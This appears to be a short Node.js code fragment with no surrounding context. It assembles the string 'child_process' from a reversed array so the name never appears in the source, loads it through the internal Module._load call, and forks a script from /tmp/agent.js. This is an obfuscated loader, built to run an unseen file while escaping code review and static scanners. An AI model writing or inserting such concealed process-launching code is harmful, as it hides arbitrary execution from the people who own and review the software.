const Module = require('node:module');
const name = ['process', 'child'].reverse().join('_');
Module._load(name).fork('/tmp/agent.js');
